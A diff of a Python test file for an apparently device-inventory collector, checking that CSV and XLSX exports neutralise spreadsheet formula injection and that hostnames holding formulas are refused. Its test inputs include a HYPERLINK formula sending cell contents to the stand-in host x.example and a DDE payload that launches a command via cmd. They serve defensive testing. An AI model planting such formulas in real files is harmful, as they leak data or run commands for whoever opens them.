@@ -98,7 +98,7 @@ def test_an_operator_moves_a_device_that_really_moved(collector):
     assert "Traceback" not in refused.stderr
 
 
-HOSTILE_HOSTNAME = '=HYPERLINK("http://x.example/?"&A1,"click")'
+HOSTILE_FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
 EXPORTS = ["/units/00070/devices", "/units/00070/applications", "/export/units"]
 
 
@@ -108,9 +108,16 @@ def _csv_cells(data: bytes) -> list[list[str]]:
 
 def test_exports_hold_no_cell_a_spreadsheet_would_evaluate(collector):
     token = collector.token("00070")
-    doc = _report("00070", "hostile-1", datetime.now(timezone.utc) - timedelta(minutes=5), HOSTILE_HOSTNAME)
+    at = datetime.now(timezone.utc) - timedelta(minutes=5)
+    # A formula is no host name: refused naming the field (inventory/text.py); elsewhere it is text, made inert.
+    refused = _post(collector.url, token, _report("00070", "hostile-0", at, HOSTILE_FORMULA))
+    assert refused.status_code == 400 and "device.hostname" in refused.json()["message"], refused.text
+    doc = _report("00070", "hostile-1", at, "PC-HOSTILE-1")
     doc["os"]["name"] = "=1+2"
     doc["software"].append({"name": "@SUM(1+1)*cmd|' /C calc'!A0", "version": "-2+3", "publisher": "+x"})
+    assert _post(collector.url, token, doc).status_code == 201
+    doc = _report("00070", "hostile-2", at, "PC-HOSTILE-2")
+    doc["os"]["name"] = HOSTILE_FORMULA
     assert _post(collector.url, token, doc).status_code == 201
     for export in EXPORTS:
         csv_answer = requests.get(collector.url + export + ".csv", timeout=60)
@@ -121,8 +128,8 @@ def test_exports_hold_no_cell_a_spreadsheet_would_evaluate(collector):
         xlsx = [c for row in book.active.iter_rows() for c in row]
         assert not [c.coordinate for c in xlsx if c.data_type == "f"], export
         if export.endswith("devices"):
-            assert f"'{HOSTILE_HOSTNAME}" in cells and "'=1+2" in cells  # the text, made inert, not lost
-            assert {HOSTILE_HOSTNAME, "=1+2"} <= {c.value for c in xlsx}  # the same text, as strings
+            assert f"'{HOSTILE_FORMULA}" in cells and "'=1+2" in cells  # the text, made inert, not lost
+            assert {HOSTILE_FORMULA, "=1+2"} <= {c.value for c in xlsx}  # the same text, as strings
             memory = next(c for c in xlsx if c.row == 1 and c.value and "RAM" in str(c.value))
             assert isinstance(book.active.cell(2, memory.column).value, (int, float))  # numbers stay numbers
     units = _csv_cells(requests.get(collector.url + "/export/units.csv", timeout=60).content)
@@ -142,7 +149,9 @@ def test_lone_surrogates_and_deep_nesting_are_400s_naming_the_field_never_500s(c
                            headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
     assert answer.status_code == 400 and "network.reachability[2].target" in answer.json()["message"], answer.text
     # A pair of surrogates is one character (an emoji): text, accepted.
-    fine = json.dumps(_report("00070", "emoji-1", datetime.now(timezone.utc), "PC-\U0001F600"))
+    emoji = _report("00070", "emoji-1", datetime.now(timezone.utc), "PC-EMOJI")
+    emoji["os"]["name"] = "Windows 11 \U0001F600"
+    fine = json.dumps(emoji)
     assert requests.post(collector.url + "/api/v1/reports", data=fine.encode(), timeout=30,
                          headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
                          ).status_code == 201
